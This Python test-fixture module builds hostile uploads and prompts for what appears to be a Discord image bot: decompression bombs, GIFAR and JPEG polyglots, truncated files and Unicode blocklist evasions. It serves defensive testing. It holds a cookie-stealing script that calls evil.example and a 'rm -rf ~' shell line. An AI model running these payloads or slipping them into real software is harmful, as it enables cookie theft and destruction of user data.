"""The hostile-input corpus: photos and prompts members could send, generated on demand (nothing committed).

Every photo is built from a small marked portrait (red band on top, blue band at the bottom) so an accepted
photo can be checked for being upright. Generators are cheap: bombs and huge images only *declare* their
size in a header, animations repeat one tiny frame, and the one big random buffer is made once per run.
"""

from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

import numpy as np
from PIL import Image

MiB = 1024 * 1024
PORTRAIT = (300, 400)  # width, height as displayed: above the 256 px minimum, well under the output size
RED, BLUE, GREY = (220, 30, 30), (30, 40, 220), (128, 128, 128)
_EXIF_ORIENTATION = 0x0112


def portrait_image(size: tuple[int, int] = PORTRAIT) -> Image.Image:
    """An upright test portrait: red top quarter, blue bottom quarter, a grey gradient between."""
    width, height = size
    rows = np.linspace(60, 200, height, dtype=np.uint8)
    pixels = np.repeat(rows[:, None, None], width, axis=1).repeat(3, axis=2)
    quarter = height // 4
    pixels[:quarter] = RED
    pixels[height - quarter :] = BLUE
    return Image.fromarray(pixels, "RGB")


def _save(image: Image.Image, fmt: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, format=fmt, **options)
    return out.getvalue()


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


# ----- well-formed images in unusual shapes ---------------------------------------------------------------


@cache
def plain_jpeg() -> bytes:
    """The marked portrait as an ordinary JPEG."""
    return _save(portrait_image(), "JPEG", quality=90)


@cache
def plain_png() -> bytes:
    """The marked portrait as an ordinary PNG."""
    return _save(portrait_image(), "PNG")


def exif_rotated_jpeg(orientation: int) -> bytes:
    """The portrait stored sideways with the EXIF orientation (6 or 8) that turns it upright again."""
    # Orientation 6 means "rotate 90° clockwise to display", so the stored pixels are turned the other way.
    stored_turn = {6: Image.Transpose.ROTATE_90, 8: Image.Transpose.ROTATE_270}[orientation]
    stored = portrait_image().transpose(stored_turn)
    exif = Image.Exif()
    exif[_EXIF_ORIENTATION] = orientation
    exif[0x8825] = {2: (51.0, 30.0, 0.0), 1: "N"}  # a GPS position: must not survive the clean-up
    return _save(stored, "JPEG", quality=90, exif=exif.tobytes())


def cmyk_jpeg() -> bytes:
    """A CMYK JPEG (Adobe marker), as print workflows export."""
    return _save(portrait_image().convert("CMYK"), "JPEG", quality=90)


def png_16bit_grey() -> bytes:
    """A 16-bit greyscale PNG (opens as I;16): the top band is dark, the bottom band light."""
    width, height = PORTRAIT
    rows = np.linspace(2_000, 63_000, height).astype(np.uint16)
    return _save(Image.fromarray(np.repeat(rows[:, None], width, axis=1)), "PNG")


def palette_png_transparent() -> bytes:
    """A palette PNG whose middle is transparent (tRNS): must come out on white, not black."""
    image = portrait_image().quantize(colors=15)  # indices 0-14; 15 is free for "transparent"
    pixels = np.asarray(image).copy()
    transparent = 15
    pixels[150:250, :] = transparent
    paletted = Image.fromarray(pixels, "P")
    palette = (image.getpalette() or [])[: 15 * 3]
    paletted.putpalette(palette + [0] * (15 * 3 - len(palette)) + [255, 0, 255])  # magenta if shown opaque
    return _save(paletted, "PNG", transparency=transparent)


def transparent_gif() -> bytes:
    """A GIF with a transparent palette index in the middle."""
    return palette_png_to(lambda image: _save(image, "GIF", transparency=15))


def palette_png_to(save: Callable[[Image.Image], bytes]) -> bytes:
    """Re-save the transparent palette image with another writer."""
    with Image.open(io.BytesIO(palette_png_transparent())) as image:
        image.load()
        return save(image)


# A 1x1 frame: graphic control (0.1 s) then an image descriptor at (0, 0) with one LZW-coded pixel.
_GIF_TINY_FRAME = (
    b"\x21\xf9\x04\x00\x0a\x00\x00\x00" + b"\x2c\0\0\0\0\x01\0\x01\0\x00" + b"\x02\x02\x44\x01\x00"
)


def animated_gif(frames: int = 3000) -> bytes:
    """The portrait as a GIF, then thousands of 1x1 frames (an "animation" that costs nothing to make)."""
    first = _save(portrait_image().quantize(colors=64), "GIF")
    assert first.endswith(b";")
    return first[:-1] + _GIF_TINY_FRAME * frames + b";"


def _riff_chunk(kind: bytes, body: bytes) -> bytes:
    return kind + struct.pack("<I", len(body)) + body + (b"\0" if len(body) % 2 else b"")


def _webp_bitstream_chunk(image: Image.Image, **options: object) -> bytes:
    """The VP8/VP8L chunk of a simple (single-frame) WebP."""
    data = _save(image, "WEBP", **options)
    assert data[12:15] == b"VP8"
    return data[12:]


def _anmf(chunk: bytes, size: tuple[int, int], duration_ms: int = 40) -> bytes:
    width, height = size
    header = (0).to_bytes(3, "little") * 2  # x/2, y/2
    header += (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    header += duration_ms.to_bytes(3, "little") + b"\x00"
    return _riff_chunk(b"ANMF", header + chunk)


def _animated_webp(canvas: tuple[int, int], frames: list[bytes]) -> bytes:
    width, height = canvas
    vp8x = b"\x02\0\0\0" + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBP" + _riff_chunk(b"VP8X", vp8x) + _riff_chunk(b"ANIM", b"\xff\xff\xff\xff\x00\x00")
    body += b"".join(frames)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def animated_webp(frames: int = 3000) -> bytes:
    """The portrait as the first frame of an animated WebP, then thousands of 1x1 frames."""
    first = _anmf(_webp_bitstream_chunk(portrait_image(), quality=80), PORTRAIT)
    tiny = _anmf(_webp_bitstream_chunk(Image.new("RGB", (1, 1)), lossless=True), (1, 1))
    return _animated_webp(PORTRAIT, [first, *([tiny] * frames)])


def large_png_under_limit() -> bytes:
    """A real 6000x8000 (48 MP) greyscale PNG of a few hundred kilobytes: decodes to ~150 MB of RGB."""
    width, height = 6000, 8000
    compressor = zlib.compressobj(9)
    row = b"\x00" + b"\x80" * width  # filter byte, then mid-grey
    body = b"".join(compressor.compress(row * 500) for _ in range(height // 500)) + compressor.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", body)
        + _png_chunk(b"IEND", b"")
    )


# ----- sizes that must be refused -----------------------------------------------------------------


def png_declaring(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims `width`x`height` (a decompression bomb needs only the claim)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" + b"\x00" * 3 * min(width, 4096))  # one short row; the rest never arrives
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def gif_declaring(width: int, height: int) -> bytes:
    """A GIF whose logical screen claims `width`x`height`, holding one 1x1 frame."""
    header = b"GIF89a" + struct.pack("<HH", width, height) + b"\x80\x00\x00" + b"\0\0\0\xff\xff\xff"
    return header + _GIF_TINY_FRAME + b";"


def webp_declaring(width: int, height: int) -> bytes:
    """An animated WebP whose canvas claims `width`x`height`, holding one 1x1 frame."""
    tiny = _anmf(_webp_bitstream_chunk(Image.new("RGB", (1, 1)), lossless=True), (1, 1))
    return _animated_webp((width, height), [tiny])


def jpeg_declaring(width: int, height: int) -> bytes:
    """The portrait JPEG with its frame header (SOF0) rewritten to claim `width`x`height`."""
    data = bytearray(plain_jpeg())
    sof = data.find(b"\xff\xc0")
    assert sof > 0
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def tiny_png() -> bytes:
    """An 8x8 photo."""
    return _save(portrait_image((8, 8)), "PNG")


def strip_jpeg() -> bytes:
    """A 2000x300 panorama strip (more than 4:1)."""
    return _save(portrait_image((2000, 300)), "JPEG", quality=70)


def truncated(data: bytes, keep: float = 0.5) -> bytes:
    """The first `keep` of a file, as an interrupted upload leaves it."""
    return data[: int(len(data) * keep)]


# ----- polyglots and impostors --------------------------------------------------------------------


def _zip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, body in files.items():
            archive.writestr(name, body)
    return out.getvalue()


SCRIPT = b"<html><body><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>"


def jpeg_with_zip() -> bytes:
    """A valid JPEG with a ZIP archive appended (opens as a photo and as an archive)."""
    return plain_jpeg() + _zip({"payload.html": SCRIPT, "run.sh": b"#!/bin/sh\nrm -rf ~\n"})


def jpeg_with_html() -> bytes:
    """A valid JPEG with an HTML page and script appended."""
    return plain_jpeg() + SCRIPT


def gifar() -> bytes:
    """A GIF with a Java archive appended (the "GIFAR" trick)."""
    jar = _zip(
        {"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\nMain-Class: Evil\n", "Evil.class": b"\xca\xfe"}
    )
    return _save(portrait_image().quantize(colors=64), "GIF") + jar


def png_with_script_chunk() -> bytes:
    """A valid PNG carrying a script in a text chunk."""
    data = plain_png()
    text = _png_chunk(b"tEXt", b"Comment\x00" + SCRIPT)
    return data[:33] + text + data[33:]  # right after the signature (8) and IHDR (25)


def magic_then_html() -> bytes:
    """JPEG magic bytes in front of an HTML page: sniffs as JPEG, decodes as nothing."""
    return b"\xff\xd8\xff\xe0" + SCRIPT


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="300" height="400"><script>alert(1)</script></svg>'
TEXT = b"just some text, not a photo\n"
MP4 = b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2" + b"\x00" * 64


@cache
def random_megabytes() -> bytes:
    """One buffer of random bytes a little over 25 MiB, made once per run (huge uploads are built from it)."""
    return os.urandom(25 * MiB + 64 * 1024)


def over_limit_jpeg() -> bytes:
    """JPEG magic followed by random bytes, 25 MiB + 1 in all (built at use, never kept)."""
    return (b"\xff\xd8\xff\xe0" + random_megabytes())[: 25 * MiB + 1]


def just_under_limit_jpeg() -> bytes:
    """The portrait JPEG padded with random bytes to just under 25 MiB (a valid photo of the largest size)."""
    photo = plain_jpeg()
    return photo + random_megabytes()[: 25 * MiB - 1024 - len(photo)]


# ----- the photo cases ----------------------------------------------------------------------------

TOO_LARGE = "too large"
DAMAGED = "damaged or incomplete"
NOT_A_PHOTO = "isn't a photo type"
ANOTHER_KIND = "not another kind of file"
TOO_SMALL = "too small"
EMPTY = "file is empty"
OVER_25 = "25 MiB"


@dataclass(frozen=True)
class PhotoCase:
    """One upload: how it is named and labelled, its bytes, and what the bot must do with it.

    `refusal` holds words the member's private refusal must contain; None means the photo is accepted, and
    then `upright` says whether the red band must come out on top (the photo is the marked portrait).
    """

    name: str
    build: Callable[[], bytes]
    filename: str = "photo.jpg"
    content_type: str | None = "image/jpeg"
    refusal: str | None = None
    upright: bool = True
    declared_size: int | None = None  # what Discord's attachment object claims, if not the real size
    keep: bool = True  # False for big blobs: rebuilt when needed instead of cached


PHOTO_CASES: list[PhotoCase] = [
    # Accepted, and must come out upright at a sane size.
    PhotoCase("plain_jpeg", plain_jpeg),
    PhotoCase("png_named_jpg_sent_as_gif", plain_png, "photo.jpg", "image/gif"),
    PhotoCase("jpeg_named_png_sent_as_png", plain_jpeg, "photo.png", "image/png"),
    PhotoCase("jpeg_without_content_type", plain_jpeg, "photo", None),
    PhotoCase("exif_orientation_6", lambda: exif_rotated_jpeg(6)),
    PhotoCase("exif_orientation_8", lambda: exif_rotated_jpeg(8)),
    PhotoCase("cmyk_jpeg", cmyk_jpeg),
    PhotoCase("png_16bit_grey", png_16bit_grey, "photo.png", "image/png", upright=False),
    PhotoCase("palette_png_transparent", palette_png_transparent, "photo.png", "image/png"),
    PhotoCase("gif_transparent", transparent_gif, "photo.gif", "image/gif"),
    PhotoCase("gif_3000_frames", animated_gif, "photo.gif", "image/gif"),
    PhotoCase("webp_3000_frames", animated_webp, "photo.webp", "image/webp"),
    PhotoCase("png_48_megapixels", large_png_under_limit, "photo.png", "image/png", upright=False),
    PhotoCase("jpeg_with_zip_appended", jpeg_with_zip),
    PhotoCase("jpeg_with_html_appended", jpeg_with_html),
    PhotoCase("gifar", gifar, "photo.gif", "image/gif"),
    PhotoCase("png_with_script_chunk", png_with_script_chunk, "photo.png", "image/png"),
    PhotoCase("jpeg_just_under_25_mib", just_under_limit_jpeg, keep=False),
    # Refused, with a reason the member can act on.
    PhotoCase("zero_bytes", lambda: b"", "photo.png", "image/png", refusal=EMPTY),
    PhotoCase("truncated_jpeg", lambda: truncated(plain_jpeg()), refusal=DAMAGED),
    PhotoCase("truncated_png", lambda: truncated(plain_png()), "photo.png", "image/png", refusal=DAMAGED),
    PhotoCase("png_cut_in_header", lambda: plain_png()[:20], "photo.png", "image/png", refusal=DAMAGED),
    PhotoCase("text_named_png", lambda: TEXT, "photo.png", "image/png", refusal=NOT_A_PHOTO),
    PhotoCase("text_sent_as_text", lambda: TEXT, "photo.png", "text/plain", refusal=ANOTHER_KIND),
    PhotoCase("jpeg_sent_as_text", plain_jpeg, "photo.txt", "text/plain", refusal=ANOTHER_KIND),
    PhotoCase("svg_with_script_as_png", lambda: SVG, "photo.png", "image/png", refusal=NOT_A_PHOTO),
    PhotoCase("svg_sent_as_svg", lambda: SVG, "photo.svg", "image/svg+xml", refusal=ANOTHER_KIND),
    PhotoCase("mp4_named_jpg", lambda: MP4, refusal=NOT_A_PHOTO),
    PhotoCase("zip_named_jpg", lambda: _zip({"a.jpg": plain_jpeg()}), refusal=NOT_A_PHOTO),
    PhotoCase("jpeg_magic_then_html", magic_then_html, refusal=DAMAGED),
    PhotoCase(
        "png_bomb_30000x30000", lambda: png_declaring(30_000, 30_000), "b.png", "image/png", refusal=TOO_LARGE
    ),
    PhotoCase(
        "png_claiming_9000x9000", lambda: png_declaring(9_000, 9_000), "b.png", "image/png", refusal=TOO_LARGE
    ),
    PhotoCase(
        "gif_bomb_30000x30000", lambda: gif_declaring(30_000, 30_000), "b.gif", "image/gif", refusal=TOO_LARGE
    ),
    PhotoCase(
        "webp_bomb_16383x16383",
        lambda: webp_declaring(16_383, 16_383),
        "b.webp",
        "image/webp",
        refusal=TOO_LARGE,
    ),
    PhotoCase("jpeg_claiming_12000x9000", lambda: jpeg_declaring(12_000, 9_000), refusal=TOO_LARGE),
    PhotoCase("jpeg_claiming_60000x60000", lambda: jpeg_declaring(60_000, 60_000), refusal=TOO_LARGE),
    PhotoCase("tiny_8x8", tiny_png, "photo.png", "image/png", refusal=TOO_SMALL),
    PhotoCase("panorama_strip", strip_jpeg, refusal="too long and thin"),
    PhotoCase("over_25_mib", over_limit_jpeg, refusal=OVER_25, keep=False),
    PhotoCase(
        "over_25_mib_declared_small", over_limit_jpeg, refusal=OVER_25, declared_size=512 * 1024, keep=False
    ),
]


# ----- prompts ------------------------------------------------------------------------------------

BLOCKLIST = ("fur", "naked", "sexy")
BLOCKED = "a word this server doesn't allow"
PROMPT_EMPTY = "description was empty"
PROMPT_TOO_LONG = "too long"
MENTION_IDS = ("123", "456", "789", "123456789012345678", "876543210987654321", "234567890123456789")
MENTIONS = (
    "@everyone @here <@123> <@!123> <@&456> <#789> <@123456789012345678> <@!123456789012345678> "
    "<@&876543210987654321> <#234567890123456789> </tryon start:123456789012345678> red coat"
)
MARKDOWN = (
    "# **bold** __under__ ~~strike~~ ||spoiler|| `code` ```py\nprint('x')\n``` > quote "
    "[click](https://evil.example/login) -# small \\ red coat"
)


@dataclass(frozen=True)
class PromptCase:
    """One outfit text and what the bot must answer: None = accepted, else words of the private refusal."""

    name: str
    text: str
    refusal: str | None = None


PROMPT_CASES: list[PromptCase] = [
    PromptCase("whitespace_only", " \t\n \u3000 ", PROMPT_EMPTY),
    PromptCase("invisible_only", "\u200b\u200d\u2060\ufeff\u202e", PROMPT_EMPTY),
    PromptCase("ten_thousand_chars", "red coat " * 1111 + "x", PROMPT_TOO_LONG),
    PromptCase("mentions", MENTIONS),
    PromptCase("markdown_and_code_fences", MARKDOWN),
    PromptCase("zero_width_inside_words", "a re\u200bd co\u200dat with bu\u2060ttons"),
    PromptCase("right_to_left_override", "a red \u202etaoc\u202c with \u2067gold\u2069 buttons \u200f"),
    # Blocklisted words in disguise (the blocklist is BLOCKLIST).
    PromptCase("blocked_plain", "a fur coat", BLOCKED),
    PromptCase("blocked_upper_case", "a FUR coat", BLOCKED),
    PromptCase("blocked_plural", "a coat with FURS", BLOCKED),
    PromptCase("blocked_zero_width_inside", "a f\u200bu\u200dr coat", BLOCKED),
    PromptCase("blocked_soft_hyphen", "a fu\u00adr coat", BLOCKED),
    PromptCase("blocked_fullwidth", "a ｆｕｒ coat", BLOCKED),
    PromptCase("blocked_math_bold", "a 𝐟𝐮𝐫 coat", BLOCKED),
    PromptCase("blocked_circled", "a ⓕⓤⓡ coat", BLOCKED),
    PromptCase("blocked_superscript", "ⁿᵃᵏᵉᵈ", BLOCKED),
    PromptCase("blocked_combining_strike", "a f\u0336u\u0336r\u0336 coat", BLOCKED),
    PromptCase("blocked_dotted", "a f.u.r coat", BLOCKED),
    PromptCase("blocked_spaced", "a f u r coat", BLOCKED),
    PromptCase("blocked_dashed", "n-a-k-e-d", BLOCKED),
    PromptCase("blocked_underscored", "a f_u_r coat", BLOCKED),
    PromptCase("blocked_leet", "n4k3d under a coat", BLOCKED),
    PromptCase("blocked_leet_symbols", "a $3xy dress", BLOCKED),
    PromptCase("blocked_cyrillic_mixed", "nаkеd", BLOCKED),  # Cyrillic а and е among Latin letters
    PromptCase("blocked_greek_upsilon", "a fυr coat", BLOCKED),
    PromptCase("blocked_all_cyrillic_word", "a ѕеху dress", BLOCKED),  # every letter a Cyrillic look-alike
    PromptCase("blocked_armenian_u", "a fսr coat", BLOCKED),
    PromptCase("blocked_small_capitals", "a ꜰᴜʀ coat", BLOCKED),
    # Must still pass: the checks may not over-block.
    PromptCase("allowed_furry_hat", "a furry hat"),
    PromptCase("allowed_1920s", "a 1920s flapper dress, 2 piece"),
    PromptCase("allowed_russian", "красное пальто"),
    PromptCase("allowed_accents", "une robe d'été rouge"),
]
